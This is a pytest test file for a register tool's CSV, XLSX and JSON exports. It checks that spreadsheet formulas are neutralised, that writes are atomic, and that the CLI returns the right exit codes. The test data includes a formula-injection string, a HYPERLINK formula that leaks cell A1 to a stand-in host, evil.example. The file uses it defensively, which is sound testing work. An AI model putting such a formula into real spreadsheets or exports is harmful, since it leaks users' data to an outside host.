"""Exports of the register (csv, xlsx, json): the rows, formula-injection neutralising, atomic writes, the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from checks import catalogue as shipped_catalogue
from cli import app
from csu_assure.calendar import load_calendar
from csu_assure.domain import Domain
from csu_assure.engine import assess
from csu_assure.register import Register
from csu_assure.render.records import (
    ASSESSMENT_COLUMNS,
    FORMULA_TRIGGERS,
    RESULT_COLUMNS,
    ExportFormat,
    ExportTable,
    export,
    neutralise,
    read_json,
    write_csv,
)
from csu_assure.results import Assessment
from csu_assure.ruleset import load_ruleset
from csu_assure.synthetic import baseline, to_submission

runner = CliRunner()
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _assess(csu_id: str, csu_name: str, checkpoint: int = 2) -> Assessment:
    catalogue = shipped_catalogue()
    return assess(
        to_submission(baseline(csu_id=csu_id, csu_name=csu_name, checkpoint=checkpoint)),
        catalogue=catalogue,
        ruleset=load_ruleset(catalogue),
        calendar=load_calendar(),
        as_of=dt.date(2012, 9, 1),
        assessor="Export Test",
    )


def _hostile() -> Assessment:
    """A CSU whose name comes from its submission as a formula, and a result carrying more of them."""
    a = _assess("hostile", HOSTILE_NAME)
    first = a.results[0].model_copy(
        update={"finding": "+1", "actual": "-1+2", "evidence": ({"@SUM(1)": "=1+1", "ccg": "\tTab"},)}
    )
    return a.model_copy(update={"results": (first, *a.results[1:])})


@pytest.fixture
def out(tmp_path: Path) -> Path:
    """An output folder whose register holds a hostile CSU (checkpoint 2) and a plain one (checkpoints 1, 2)."""
    register = Register(f"sqlite:///{tmp_path / 'out' / 'register.sqlite'}")
    for a in (_hostile(), _assess("plain", "Plain CSU", 1), _assess("plain", "Plain CSU", 2)):
        register.record(a)
    register.close()
    return tmp_path / "out"


def _export(out: Path, *args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["export", "--out-dir", str(out), *args])
    return result.exit_code, result.stdout + result.stderr


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1", "＝1+1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["a=b", "1-2", "", "'=already quoted", 3, -1, -2.5, None])
def test_other_values_are_left_alone(value: str | int | float | None) -> None:
    assert neutralise(value) == value


def test_csv_export_neutralises_formulas(out: Path) -> None:
    code, output = _export(out, "--format", "csv")
    assert code == 0, output
    assessments = _read_csv(out / "register-export-assessments.csv")
    results = _read_csv(out / "register-export-results.csv")
    assert list(assessments[0]) == list(ASSESSMENT_COLUMNS) and list(results[0]) == list(RESULT_COLUMNS)
    assert [(r["csu_id"], r["checkpoint"]) for r in assessments] == [
        ("hostile", "2"),
        ("plain", "1"),
        ("plain", "2"),
    ]
    hostile = assessments[0]
    assert hostile["csu_name"] == "'" + HOSTILE_NAME
    assert (
        hostile["domain_customer"] == "pass" and hostile["domain_delivery"] == ""
    )  # no delivery domain at checkpoint 2
    first = results[0]
    assert (first["csu_name"], first["finding"], first["actual"]) == ("'" + HOSTILE_NAME, "'+1", "'-1+2")
    assert first["evidence"] == "'@SUM(1): =1+1; ccg: \tTab"
    cells = [v for rows in (assessments, results) for row in rows for v in row.values()]
    assert not [v for v in cells if v.startswith(FORMULA_TRIGGERS)]


def test_csv_export_of_one_table_writes_that_file(out: Path, tmp_path: Path) -> None:
    target = tmp_path / "exports" / "results.csv"
    code, output = _export(out, "--format", "csv", "--table", "results", "--out", str(target))
    assert code == 0, output
    assert [p.name for p in target.parent.iterdir()] == ["results.csv"]  # no temporary file left behind
    assert len(_read_csv(target)) == sum(len(a.results) for a in _exports_json(out))


def _exports_json(out: Path) -> list[Assessment]:
    code, output = _export(out, "--format", "json")
    assert code == 0, output
    return read_json(out / "register-export.json")


def test_xlsx_export_writes_strings_never_formulas(out: Path) -> None:
    code, output = _export(out, "--format", "xlsx")
    assert code == 0, output
    workbook = load_workbook(out / "register-export.xlsx")
    assert workbook.sheetnames == ["Assessments", "Results"]
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.bold for cell in sheet[1])
        values = list(sheet.iter_rows(min_row=2))
        assert values
        for row in values:
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS))
    assessments = workbook["Assessments"]
    header = [c.value for c in assessments[1]]
    hostile = dict(zip(header, [c for c in assessments[2]], strict=True))
    assert hostile["csu_name"].value == "'" + HOSTILE_NAME and hostile["csu_name"].data_type == "s"
    assert hostile["checkpoint"].value == 2 and hostile["checkpoint"].data_type == "n"  # numbers stay numbers
    results = workbook["Results"]
    header = [c.value for c in results[1]]
    first = dict(zip(header, [c.value for c in results[2]], strict=True))
    assert (first["finding"], first["actual"]) == ("'+1", "'-1+2")
    assert first["evidence"].startswith("'@SUM(1)")


def test_xlsx_replaces_characters_the_format_cannot_hold(tmp_path: Path) -> None:
    # Submissions with control characters are refused at loading; an export still must not fail on a record.
    a = _assess("ctrl", "Control CSU").model_copy(update={"csu_name": "Control\x07 CSU"})
    path = export([a], ExportFormat.XLSX, tmp_path / "x.xlsx", (ExportTable.ASSESSMENTS,))[0]
    sheet = load_workbook(path)["Assessments"]
    assert sheet["B2"].value == "Control\N{REPLACEMENT CHARACTER} CSU"


def test_json_export_round_trips_to_assessments(out: Path) -> None:
    exported = _exports_json(out)
    register = Register(f"sqlite:///{out / 'register.sqlite'}")
    assert exported == register.all_latest()
    assert exported[0].csu_name == HOSTILE_NAME  # json is not a spreadsheet: the record is kept exactly
    assert json.loads((out / "register-export.json").read_text())["format"] == "csu-assure/assessments/1"
    register.close()


def test_a_failed_write_leaves_the_previous_export_in_place(tmp_path: Path) -> None:
    target = tmp_path / "a.csv"
    write_csv([{"x": 1}], ["x"], target)
    before = target.read_bytes()
    with pytest.raises(KeyError):
        write_csv([{"x": 1}, {"y": 2}], ["x"], target)  # the second row lacks a column: fails mid-write
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_assessment_rows_have_a_status_column_per_decision_domain() -> None:
    assert [c for c in ASSESSMENT_COLUMNS if c.startswith("domain_")] == [f"domain_{d.value}" for d in Domain]


def test_export_exit_codes(out: Path, tmp_path: Path) -> None:
    code, output = _export(tmp_path / "nowhere", "--format", "csv")
    assert code == 2 and "there is no register at" in output
    assert not (tmp_path / "nowhere").exists()
    code, output = _export(out, "--format", "json", "--table", "results")
    assert code == 2 and "--table applies to csv and xlsx" in output
    code, output = _export(out, "--format", "xlsx", "--out", str(tmp_path / "x.csv"))
    assert code == 2 and "expected a .xlsx file for --format xlsx" in output
    code, output = _export(out, "--format", "pdf")
    assert code == 2
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    code, output = _export(out, "--format", "csv", "--table", "assessments", "--out", str(folder))
    assert code == 2 and "is a folder" in output
    code, output = _export(out, "--format", "csv", "--out", str(tmp_path / "named.csv"))
    assert code == 0, output
    assert (tmp_path / "named-assessments.csv").is_file() and (tmp_path / "named-results.csv").is_file()
    empty = tmp_path / "empty"
    Register(f"sqlite:///{empty / 'register.sqlite'}").close()
    code, output = _export(empty, "--format", "xlsx")
    assert code == 1 and "holds no assessments" in output and not (empty / "register-export.xlsx").exists()
    blocked = tmp_path / "blocked"
    blocked.write_text("a file where a folder should be")
    code, output = _export(out, "--format", "json", "--out", str(blocked / "x.json"))
    assert code == 1 and "cannot write" in output
